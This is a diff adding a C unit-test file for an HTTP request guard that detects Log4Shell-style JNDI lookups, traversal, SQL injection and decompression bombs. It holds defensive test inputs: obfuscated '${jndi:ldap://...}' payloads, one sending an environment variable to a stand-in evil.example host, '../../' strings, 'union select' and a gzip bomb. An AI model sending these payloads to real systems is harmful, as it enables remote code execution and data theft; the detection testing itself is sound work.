@@ -1,0 +1,585 @@
+/* Codings, limits, exclusions and rules: what counts, and what was not looked at. */
+#include "probe.h"
+
+#include <zlib.h>
+
+#define P "${jndi:ldap://x/a}"
+#define FORM "application/x-www-form-urlencoded"
+
+static struct slice pack(struct slice s, int window, struct buf *out)
+{
+    uint8_t *room;
+    size_t most = s.n + s.n / 100 + 200, before = out->n;
+    assert_ok(buf_reserve(out, most, &room));
+    z_stream z = {.next_in = (z_const Bytef *)(uintptr_t)s.p,
+                  .avail_in = (uInt)s.n,
+                  .next_out = room,
+                  .avail_out = (uInt)most};
+    assert_int_equal(deflateInit2(&z, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY), Z_OK);
+    assert_int_equal(deflate(&z, Z_FINISH), Z_STREAM_END);
+    (void)deflateEnd(&z);
+    buf_commit(out, most - z.avail_out);
+    return slice_sub(buf_slice(out), before, out->n);
+}
+
+/* The answer of every cut is the same. */
+static void body_is(struct probe *p, const char *type, const char *encoding, struct slice body,
+                    const char *want)
+{
+    for (p->piece = 0; p->piece < 3; p->piece++) {
+        probe_body(p, type, encoding, body);
+        if (strcmp(probe_found(p), want) != 0)
+            fail_msg("%s, %s: %s instead of %s", type, encoding, probe_found(p), want);
+    }
+    p->piece = 0;
+    size_t step = body.n > 300 ? body.n / 100 : 1;
+    for (p->cut = 1; p->cut < body.n; p->cut += step) {
+        probe_body(p, type, encoding, body);
+        if (strcmp(probe_found(p), want) != 0)
+            fail_msg("%s, %s, cut %zu: %s instead of %s", type, encoding, p->cut, probe_found(p),
+                     want);
+    }
+    p->cut = 0;
+}
+
+static void test_codings(void **state)
+{
+    static const struct {
+        const char *encoding;
+        bool packed;
+        int window;
+        const char *want;
+    } cases[] = {
+        {"gzip", true, 31, "lookup reaches form:q ldap://x/a"},
+        {" X-GZIP ", true, 31, "lookup reaches form:q ldap://x/a"},
+        {"identity, gzip", true, 31, "lookup reaches form:q ldap://x/a"},
+        {"deflate", true, 15, "lookup reaches form:q ldap://x/a"},
+        {"deflate", true, -15, "lookup reaches form:q ldap://x/a"},
+        {"identity", false, 0, "lookup reaches form:q ldap://x/a"},
+        {"", false, 0, "lookup reaches form:q ldap://x/a"},
+        /* what claims to be coded and is not is seen all the same */
+        {"gzip", false, 0, "lookup reaches body ldap://x/a"},
+        {"deflate", false, 0, "lookup reaches body ldap://x/a"},
+        {"br", false, 0, "lookup reaches form:q ldap://x/a"},
+        {"gzip, gzip", false, 0, "lookup reaches form:q ldap://x/a"},
+        {"zstd", true, 31, "limit encoding body"},
+        {"gzip, deflate", true, 31, "limit encoding body"},
+        {"gzip", true, 15, "limit encoding body"},
+        {"gzip", true, -15, "limit encoding body"},
+    };
+    struct probe p;
+    struct buf b;
+    (void)state;
+    probe_init(&p);
+    buf_init(&b, MIB(1));
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
+        struct slice body = SLICE_LIT("a=1&q=%24%7Bjndi:ldap://x/a%7D&c=3");
+        buf_clear(&b);
+        if (cases[i].packed)
+            body = pack(body, cases[i].window, &b);
+        body_is(&p, FORM, cases[i].encoding, body, cases[i].want);
+    }
+    buf_done(&b);
+    probe_done(&p);
+}
+
+static void test_broken_codings(void **state)
+{
+    struct probe p;
+    struct buf b;
+    (void)state;
+    probe_init(&p);
+    buf_init(&b, MIB(1));
+    struct slice whole = pack(SLICE_LIT("a=harmless&b=text that is packed"), 31, &b);
+    body_is(&p, FORM, "gzip", whole, "nothing");
+    for (size_t n = 1; n < whole.n; n++) { /* cut anywhere, it was not all looked at */
+        probe_body(&p, FORM, "gzip", slice_sub(whole, 0, n));
+        assert_string_equal(probe_found(&p), "limit encoding body");
+        assert_true(p.q.limited);
+    }
+    body_is(&p, FORM, "gzip", (struct slice){NULL, 0}, "nothing");
+    b.p[whole.n - 5] ^= 1; /* the checksum */
+    body_is(&p, FORM, "gzip", whole, "limit encoding body");
+    b.p[whole.n - 5] ^= 1;
+    (void)buf_add_str(&b, "trailing");
+    body_is(&p, FORM, "gzip", buf_slice(&b), "limit encoding body");
+    buf_cut(&b, whole.n); /* a second member */
+    (void)pack(SLICE_LIT("&q=" P), 31, &b);
+    body_is(&p, FORM, "gzip", buf_slice(&b), "lookup reaches form:q ldap://x/a");
+    buf_clear(&b); /* deflate has no second one */
+    (void)pack(SLICE_LIT("a"), 15, &b);
+    (void)pack(SLICE_LIT("&q=" P), 15, &b);
+    body_is(&p, FORM, "deflate", buf_slice(&b), "limit encoding body");
+    body_is(&p, FORM, "deflate", SLICE_LIT("x"), "limit encoding body");
+    buf_done(&b);
+    probe_done(&p);
+}
+
+static void test_charsets(void **state)
+{
+    static const struct {
+        const char *type, *want;
+    } cases[] = {
+        {"text/plain; charset=utf-8", "nothing"},
+        {"text/plain; charset=\"Shift_JIS\"", "nothing"},
+        {"text/plain; charset=iso-8859-15", "nothing"},
+        {"text/plain;charset=UTF-16LE", "nothing"},
+        {"text/plain; charset=", "nothing"},
+        {"text/plain; charset=ibm037", "limit charset body"},
+        {"text/plain; x=y; CHARSET=\"utf-7\"", "limit charset body"},
+        {"text/plain; charset=cp1047", "limit charset body"},
+        {"text/plain; charset=utf-32", "limit charset body"},
+    };
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        body_is(&p, cases[i].type, "", SLICE_LIT("harmless"), cases[i].want);
+    body_is(&p, "text/plain; charset=ibm037", "", SLICE_LIT(P), "lookup reaches body ldap://x/a");
+    body_is(&p, "application/json; charset=utf-16le", "",
+            SLICE_LIT("$\0{\0j\0n\0d\0i\0:\0d\0n\0s\0:\0/\0/\0x\0}\0"),
+            "lookup reaches json: dns://x");
+    probe_done(&p);
+}
+
+static void test_body_limit(void **state)
+{
+    struct probe p;
+    struct buf b;
+    (void)state;
+    probe_init(&p);
+    buf_init(&b, MIB(8));
+    for (uint64_t limit = 19; limit <= 21; limit++) {
+        p.options.body_limit = limit;
+        body_is(&p, FORM, "", SLICE_LIT("q=" P),
+                limit < 20 ? "lookup if-closed form:q ldap://x/a"
+                           : "lookup reaches form:q ldap://x/a");
+        assert_int_equal(p.q.limited, limit < 20);
+        body_is(&p, FORM, "", SLICE_LIT("0123456789abcdefghij"),
+                limit < 20 ? "limit body-limit body" : "nothing");
+        probe_begin(&p);
+        assert_int_equal(guard_body_clean(&p.q, SLICE_LIT("0123456789abcdefghij")), limit >= 20);
+        probe_end(&p);
+        buf_clear(&b); /* inflated bytes count */
+        body_is(&p, FORM, "deflate", pack(SLICE_LIT("aaaaaaaaaaaaaaaaaaaa"), 15, &b),
+                limit < 20 ? "limit body-limit body" : "nothing");
+    }
+    p.options.body_limit = 1; /* what stands behind is not looked at, and that is said */
+    body_is(&p, FORM, "", SLICE_LIT("q=" P), "limit body-limit body");
+    buf_done(&b);
+    probe_done(&p);
+}
+
+/* A bomb costs no more than its packed bytes times the ratio. */
+static void test_bomb(void **state)
+{
+    struct probe p;
+    struct buf zeros, b;
+    (void)state;
+    probe_init(&p);
+    buf_init(&zeros, MIB(64));
+    buf_init(&b, MIB(64));
+    while (zeros.n < MIB(32))
+        (void)buf_add(&zeros, "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa", 32);
+    struct slice bomb = pack(buf_slice(&zeros), 31, &b);
+    assert_true(bomb.n < KIB(64));
+    probe_body(&p, "text/plain", "gzip", bomb);
+    assert_string_equal(probe_found(&p), "limit ratio body");
+    assert_true(p.bytes < KIB(128));
+    p.piece = 1;
+    probe_body(&p, "text/plain", "gzip", bomb);
+    assert_string_equal(probe_found(&p), "limit ratio body");
+    p.piece = 0;
+    buf_clear(&b); /* a MiB may be packed as well as it can */
+    probe_body(&p, "text/plain", "gzip", pack(slice_sub(buf_slice(&zeros), 0, MIB(1)), 31, &b));
+    assert_string_equal(probe_found(&p), "nothing");
+    buf_done(&zeros);
+    buf_done(&b);
+    probe_done(&p);
+}
+
+/* --- memory */
+
+static void test_clean_takes_no_memory(void **state)
+{
+    struct probe p;
+    struct slice body =
+        SLICE_LIT("{\"name\":\"\xe5\xb1\xb1\xe7\x94\xb0\",\"price\":\"$100 & up, 25%\"}");
+    (void)state;
+    probe_init(&p);
+    probe_begin(&p);
+    assert_true(guard_head_clean(&p.q, SLICE_LIT("GET /a?b=%20c HTTP/1.1\r\nHost: x\r\n\r\n")));
+    guard_uri(&p.q, SLICE_LIT("/a"));
+    guard_args(&p.q, SLICE_LIT("b=%20c&d=%2F"));
+    guard_header(&p.q, SLICE_LIT("Cookie"), SLICE_LIT("a=b; c=d"));
+    assert_true(guard_body_clean(&p.q, body));
+    assert_true(guard_body_clean(&p.q, (struct slice){NULL, 0}));
+    assert_false(guard_body_clean(&p.q, SLICE_LIT("a ${b}")));
+    assert_false(guard_head_clean(&p.q, SLICE_LIT("GET /%24%7bjndi")));
+    probe_end(&p);
+    assert_int_equal(p.count, 0);
+    assert_string_equal(probe_found(&p), "nothing");
+    probe_body(&p, "application/json", "", body); /* in pieces: one block, known beforehand */
+    assert_int_equal(p.count, 1);
+    assert_true(p.bytes < KIB(16));
+    probe_done(&p);
+}
+
+/* Memory refused at each allocation: never a crash, never "nothing" where something is. */
+static void test_memory_refused(void **state)
+{
+    struct probe p;
+    struct buf b;
+    (void)state;
+    probe_init(&p);
+    buf_init(&b, MIB(1));
+    (void)buf_add_str(&b, "a=");
+    while (b.n < 60000)
+        (void)buf_add_char(&b, 'x');
+    (void)buf_add_str(&b, "${y}&q=" P);
+    struct buf packed;
+    buf_init(&packed, MIB(1));
+    struct slice gz = pack(buf_slice(&b), 31, &packed);
+    for (size_t n = 1;; n++) {
+        p.refuse_from = n;
+        probe_begin(&p);
+        enum status st = guard_body_begin(&p.q, SLICE_LIT(FORM), SLICE_LIT("gzip"));
+        if (st == OK) {
+            guard_body_piece(&p.q, gz);
+            guard_body_end(&p.q);
+        }
+        probe_end(&p);
+        assert_int_not_equal(p.q.found.why, GUARD_NOTHING);
+        if (p.q.found.why == GUARD_LIMIT)
+            assert_true(p.q.limited);
+        if (p.count + 1 < n)
+            break;
+    }
+    assert_string_equal(probe_found(&p), "lookup reaches form:q ldap://x/a");
+    buf_done(&b);
+    buf_done(&packed);
+    probe_done(&p);
+}
+
+/* --- what does not count */
+
+static bool excluded(void *ctx, const struct guard_field *f)
+{
+    (void)ctx;
+    return slice_eq_str(f->name, "template") || slice_eq_str(f->name, "/template");
+}
+
+static void test_excluded(void **state)
+{
+    static const struct {
+        const char *type, *body, *want;
+    } cases[] = {
+        {FORM, "template=" P, "nothing"},
+        {FORM, "a=1&template=" P "&b=2", "nothing"},
+        {FORM, "template=%24%7Bjndi:ldap://x/a%7D&template=" P, "nothing"},
+        {FORM, "template=" P "&q=${jndi:ldap://y}", "lookup reaches form:q ldap://y"},
+        {FORM, "q=${jndi:ldap://y}&template=" P, "lookup reaches form:q ldap://y"},
+        /* across a border it counts: what the field holds alone does less */
+        {FORM, "template=${jndi:ldap://x&q=}", "lookup reaches form:template ldap://x&q="},
+        {FORM, "q=${jndi:ldap:&template=//x/a}", "lookup reaches form:q ldap:&template=//x/a"},
+        {FORM, "template=${jndi:ldap://x&q=1", "nothing"},
+        {FORM, "template=${name}", "nothing"},
+        {"application/json", "{\"template\":\"" P "\",\"q\":\"${x}\"}", "nothing"},
+        {"application/json", "{\"template\":\"" P "\",\"q\":\"" P "\"}",
+         "lookup reaches json:/q ldap://x/a"},
+        {"text/plain", "template=" P, "lookup reaches body ldap://x/a"},
+    };
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    p.options.excluded = excluded;
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
+    probe_begin(&p);
+    guard_args(&p.q, SLICE_LIT("template=" P));
+    guard_header(&p.q, SLICE_LIT("Template"), SLICE_LIT(P));
+    assert_string_equal(probe_found(&p), "nothing");
+    guard_header(&p.q, SLICE_LIT("Templates"), SLICE_LIT(P));
+    assert_string_equal(probe_found(&p), "lookup reaches header:templates ldap://x/a");
+    probe_end(&p);
+    probe_done(&p);
+}
+
+/* --- rules */
+
+static struct guard_rules *rules_of(const char *lines)
+{
+    struct guard_rules *r = NULL;
+    struct err e = {0};
+    char text[2000];
+    (void)snprintf(text, sizeof text, "hikeshi-rules 1\nversion 1 2021-12-14T09:00:00Z\n%s", lines);
+    if (guard_rules_parse(slice_str(text), &r, &e) != OK)
+        fail_msg("%s", e.msg);
+    return r;
+}
+
+static void test_callbacks(void **state)
+{
+    static const struct {
+        const char *text, *want;
+    } cases[] = {
+        {"${jndi:ldap://ldap.corp.example/a}", "nothing"},
+        {"%24%7Bjndi:ldap://LDAP.corp.example.:389/a%7D", "nothing"},
+        {"${jndi:ldap://ldap.corp.example/a} ${jndi:ldap://x}", "lookup reaches body ldap://x"},
+        {"${jndi:ldap://x} ${jndi:ldap://ldap.corp.example/a}", "lookup reaches body ldap://x"},
+        {"${jndi:ldap://ldap.corp.example/a} ${JNDI:rmi://ldap.corp.example}", "nothing"},
+        /* what its answer leads to is looked at as if there were none */
+        {"${${${jndi:ldap://ldap.corp.example/}:-jndi}:ldap://x/}",
+         "lookup reaches body ldap://x/"},
+        /* disguised, it counts */
+        {"${${lower:j}ndi:ldap://ldap.corp.example/a}",
+         "lookup reaches body ldap://ldap.corp.example/a"},
+        {"JHtqbmRpOmxkYXA6Ly9sZGFwLmNvcnAuZXhhbXBsZS9hfQ==",
+         "lookup reaches body ldap://ldap.corp.example/a"},
+        {"${jndi:ldap://ldap.corp.example", "lookup if-closed body ldap://ldap.corp.example"},
+        {"${jndi:ldap://a.evil.example/a}", "callback reaches body ldap://a.evil.example/a"},
+        {"${ jndi:ldap://a.evil.example/a}", "callback attempt body ldap://a.evil.example/a"},
+        {"${jndi:dns://${env:USER}.evil.example}",
+         "callback reaches body dns://${env:USER}.evil.example"},
+        {"a.evil.example", "nothing"},
+        {"${name} a.evil.example", "nothing"},
+    };
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    struct guard_rules *r =
+        rules_of("allow callback ldap.corp.example\ndeny callback *.evil.example\n");
+    p.rules = r;
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        body_is(&p, "text/plain", "", slice_str(cases[i].text), cases[i].want);
+    struct buf b; /* many allowed ones hide nothing */
+    buf_init(&b, KIB(64));
+    for (size_t i = 0; i < 3 * LIMIT_GUARD_ALLOWED; i++)
+        (void)buf_addf(&b, "${jndi:ldap://ldap.corp.example/%zu}", i);
+    (void)buf_add_str(&b, "${jndi:ldap://x}");
+    probe_body(&p, "text/plain", "", buf_slice(&b));
+    assert_int_equal(p.q.found.why, GUARD_LOOKUP);
+    buf_done(&b);
+    guard_rules_unref(r);
+    probe_done(&p);
+}
+
+static void test_clients(void **state)
+{
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    struct guard_rules *r = rules_of("allow client 10.0.0.0/8\ndeny client 203.0.113.7\n");
+    p.rules = r;
+    probe_begin(&p); /* 203.0.113.7 */
+    assert_string_equal(probe_found(&p), "client");
+    assert_true(guard_head_clean(&p.q, SLICE_LIT(P)) && guard_body_clean(&p.q, SLICE_LIT(P)));
+    guard_uri(&p.q, SLICE_LIT("/" P));
+    assert_string_equal(probe_found(&p), "client");
+    probe_end(&p);
+    probe_begin_as(&p, "POST", "/", SLICE_LIT("\x0a\x01\x01\x01"));
+    guard_uri(&p.q, SLICE_LIT("/" P));
+    assert_ok(guard_body_begin(&p.q, SLICE_LIT(FORM), SLICE_LIT("br")));
+    guard_body_piece(&p.q, SLICE_LIT(P));
+    guard_body_end(&p.q);
+    assert_string_equal(probe_found(&p), "nothing");
+    probe_end(&p);
+    probe_begin_as(&p, "POST", "/", SLICE_LIT("\x0b\x01\x01\x01"));
+    guard_uri(&p.q, SLICE_LIT("/" P));
+    assert_string_equal(probe_found(&p), "lookup reaches uri ldap://x/a");
+    probe_end(&p);
+    guard_rules_unref(r);
+    probe_done(&p);
+}
+
+/* Patterns see decoded values. */
+static void test_patterns(void **state)
+{
+    static const struct {
+        const char *type, *body, *want;
+    } cases[] = {
+        {FORM, "q=union+select", "patch ORDER-7 form:q"},
+        {FORM, "q=%75nion%20s%65lect&q=x", "patch ORDER-7 form:q"},
+        {FORM, "q=union&q=+select", "nothing"},
+        {FORM, "r=union+select", "nothing"},
+        {FORM, "r=..%2f..%2f", "signature SIG-1 form:r"},
+        {FORM, "..%2f..%2f=1", "signature SIG-1 form:../../ name"},
+        {FORM, "r=../../&q=union+select", "patch ORDER-7 form:q"},
+        {FORM, "q=union+select&r=" P, "lookup reaches form:r ldap://x/a"},
+        {FORM, "skip=../../", "nothing"},
+        {FORM, "q=x%2", "signature END form:q"},
+        {"application/json", "{\"note\":\"uni\\u006fn\\tselect\"}", "patch NOTE json:/note"},
+        {"application/json", "{\"a\":[0,\"..\\/..\\/\"]}", "signature SIG-1 json:/a/1"},
+        {"application/json", "{\"..\\/..\\/\":0}", "signature SIG-1 json:/..~1..~1 name"},
+        {"application/json", "{\"a\": ../../ }", "signature SIG-1 json:/a"},
+        {"application/json", "{\"a\":\"\\ud83d\\ude00!\"}", "signature FACE json:/a"},
+        {"text/xml", "<a><b>..&#x2f;..&#47;</b></a>", "signature SIG-1 xml:a/b"},
+        {"text/xml", "<a b='..&#x2f;..&#47;'/>", "signature SIG-1 xml:a/@b"},
+        {"text/xml", "<a>&lt;&amp;&gt;&quot;&apos;&nix;</a>", "signature ALL xml:a"},
+        {"text/xml", "<a><![CDATA[x]]]]></a>", "signature BRACKETS xml:a"},
+        {"multipart/form-data; boundary=b",
+         "--b\r\nContent-Disposition: form-data; name=\"u\"; "
+         "filename=\"..\\\\..\\\\x.jsp\"\r\n\r\n1"
+         "\r\n--b--",
+         "patch FILE file:u"},
+        {"multipart/form-data; boundary=b",
+         "--b\r\nContent-Disposition: form-data; name=u; "
+         "filename*=utf-8''x%2Ejsp\r\n\r\n1\r\n--b--",
+         "patch FILE file:u"},
+        {"multipart/form-data; boundary=b",
+         "--b\r\nContent-Disposition: form-data; name=n\r\n\r\n..\r\n--bc\r\n/../../\r\n--b--",
+         "signature SIG-1 form:n"},
+        {"multipart/form-data; boundary=b",
+         "--b\r\nContent-Disposition: form-data; name=n\r\n\r\nlast%2\r\n--b--",
+         "signature END form:n"},
+        {"multipart/form-data; boundary=b",
+         "--b\r\nContent-Disposition: form-data; name=n\r\n\r\n\r\n--x\r\r\n--\r\n--b--",
+         "signature LINES form:n"},
+        {"text/plain", "a ../../ b", "signature SIG-1 body"},
+    };
+    struct probe p;
+    (void)state;
+    probe_init(&p);
+    struct guard_rules *r = rules_of("patch ORDER-7 field=form:q pattern=\"(?i)union\\s+select\"\n"
+                                     "patch NOTE field=json:/note pattern=\"(?i)union\\s+select\"\n"
+                                     "patch FILE field=file:u pattern=\"\\.jsp$\"\n"
+                                     "except form:skip\n"
+                                     "signature SIG-1 \"\\.\\./\\.\\./\"\n"
+                                     "signature END \"%2$\"\n"
+                                     "signature FACE \"\\xf0\\x9f\\x98\\x80!\"\n"
+                                     "signature ALL \"<&>\\x22'&nix;\"\n"
+                                     "signature BRACKETS \"^x\\]\\]$\"\n"
+                                     "signature LINES \"^\\r\\n--x\\r\\r\\n--$\"\n");
+    p.rules = r;
+    for (size_t i = 0; i < ARRAY_LEN(cases); i++)
+        body_is(&p, cases[i].type, "", slice_str(cases[i].body), cases[i].want);
+    probe_begin(&p);
+    assert_false(guard_body_clean(&p.q, SLICE_LIT("harmless")));
+    assert_false(guard_head_clean(&p.q, SLICE_LIT("harmless")));
+    guard_uri(&p.q, SLICE_LIT("/a/..%2F../b"));
+    assert_string_equal(probe_found(&p), "signature SIG-1 uri");
+    probe_end(&p);
+    guard_rules_unref(r);
+    r = rules_of("patch P field=form:q pattern=\"x\"\n");
+    p.rules = r; /* heads need no fields for it */
+    probe_begin(&p);
+    assert_true(guard_head_clean(&p.q, SLICE_LIT("harmless")));
+    assert_false(guard_body_clean(&p.q, SLICE_LIT("harmless")));
+    probe_end(&p);
+    guard_rules_unref(r);
+    probe_done(&p);
+}
+
+/* --- credit */
+
+static uint64_t stands_still(void)
+{
+    return 1000000;
+}
+
+/* Evaluating this takes all that there is: 7 layers of it are beyond any budget. */
+static struct slice costly(struct buf *b, size_t n)
+{
+    buf_clear(b);
+    while (b->n < n)
+        (void)buf_add_str(b, "${lower:${q ");
+    (void)buf_add_str(b, "${jn${q}di:");
+    for (size_t i = 0; i < n / 12; i++)
+        (void)buf_add_str(b, "}}");
+    return buf_slice(b);
+}
+
+static const char *ask(struct probe *p, const char *client, struct slice body)
+{
+    probe_begin_as(p, "POST", "/", slice_of(client, 4));
+    assert_ok(guard_body_begin(&p->q, SLICE_LIT("text/plain"), (struct slice){NULL, 0}));
+    guard_body_piece(&p->q, body);
+    guard_body_end(&p->q);
+    probe_end(p);
+    return probe_found(p);
+}
+
+static void test_credit(void **state)
+{
+    static const char *const payload = "${${lower:j}${lower:n}${lower:d}i:ldap://x/a}";
+    struct probe p;
+    struct buf b, long_one;
+    (void)state;
+    probe_init(&p);
+    p.g->now_ms = stands_still;
+    p.g->seed = 1;
+    buf_init(&b, MIB(1));
+    buf_init(&long_one, MIB(1));
+    while (long_one.n < 20000) /* what takes some 100,000 steps to see through */
+        (void)buf_add_str(&long_one, "${lower:x}${upper:y}");
+    (void)buf_add_str(&long_one, payload);
+    assert_string_equal(ask(&p, "\x01\x01\x01\x01", buf_slice(&long_one)),
+                        "lookup reaches body ldap://x/a");
+    for (int i = 0; i < 200; i++)
+        assert_string_equal(ask(&p, "\x01\x01\x01\x01", costly(&b, 3000)), "limit budget body");
+    /* his own credit is gone, and an ordinary payload still seen through */
+    struct guard_credit *c = guard_credit_of(p.g, guard_client_of(SLICE_LIT("\x01\x01\x01\x01")));
+    assert_true(c->left < 100000);
+    assert_string_equal(ask(&p, "\x01\x01\x01\x01", slice_str(payload)),
+                        "lookup reaches body ldap://x/a");
+    assert_string_equal(ask(&p, "\x01\x01\x01\x01", buf_slice(&long_one)), "limit budget body");
+    /* nobody else's */
+    assert_string_equal(ask(&p, "\x01\x01\x01\x02", buf_slice(&long_one)),
+                        "lookup reaches body ldap://x/a");
+    buf_done(&b);
+    buf_done(&long_one);
+    probe_done(&p);
+}
+
+static uint64_t clock_ms;
+
+static uint64_t told_time(void)
+{
+    return clock_ms;
+}
+
+static void test_credit_grows(void **state)
+{
+    struct guard *g;
+    (void)state;
+    assert_ok(guard_new(&g));
+    g->now_ms = told_time;
+    g->grant_ms = clock_ms = 1000;
+    struct guard_credit *c = guard_credit_of(g, 7);
+    assert_int_equal(c->left, GUARD_CREDIT_NEW);
+    c->left = 0;
+    clock_ms += 10;
+    assert_int_equal(guard_credit_of(g, 7)->left, 10 * GUARD_CREDIT_PER_MS);
+    clock_ms = 0; /* a clock that goes back gives nothing */
+    assert_int_equal(guard_credit_of(g, 7)->left, 10 * GUARD_CREDIT_PER_MS);
+    clock_ms = UINT64_MAX;
+    assert_int_equal(guard_credit_of(g, 7)->left, GUARD_CREDIT_MOST);
+    /* addresses without end share the grant */
+    clock_ms = g->grant_ms = 5000;
+    uint64_t given = 0;
+    for (uint64_t client = 100; client < 4100; client++)
+        given += guard_credit_of(g, client)->left;
+    assert_true(given <= GUARD_GRANT_MOST);
+    guard_free(g);
+    assert_int_equal(guard_client_of(SLICE_LIT("\0\0\0\0\0\0\0\0\0\0\xff\xff\x0a\0\0\1")),
+                     guard_client_of(SLICE_LIT("\x0a\0\0\1")));
+    assert_int_equal(guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\1\0\0\0\0\0\0\0\1")),
+                     guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\1\1\1\1\1\1\1\1\1")));
+    assert_int_not_equal(guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\1\0\0\0\0\0\0\0\1")),
+                         guard_client_of(SLICE_LIT("\x20\1\xd\xb8\0\0\0\2\0\0\0\0\0\0\0\1")));
+    assert_int_not_equal(guard_client_of((struct slice){NULL, 0}), 0);
+}
+
+int main(void)
+{
+    const struct CMUnitTest tests[] = {
+        cmocka_unit_test(test_codings),        cmocka_unit_test(test_broken_codings),
+        cmocka_unit_test(test_charsets),       cmocka_unit_test(test_body_limit),
+        cmocka_unit_test(test_bomb),           cmocka_unit_test(test_clean_takes_no_memory),
+        cmocka_unit_test(test_memory_refused), cmocka_unit_test(test_excluded),
+        cmocka_unit_test(test_callbacks),      cmocka_unit_test(test_clients),
+        cmocka_unit_test(test_patterns),       cmocka_unit_test(test_credit),
+        cmocka_unit_test(test_credit_grows),
+    };
+    return cmocka_run_group_tests(tests, NULL, NULL);
+}
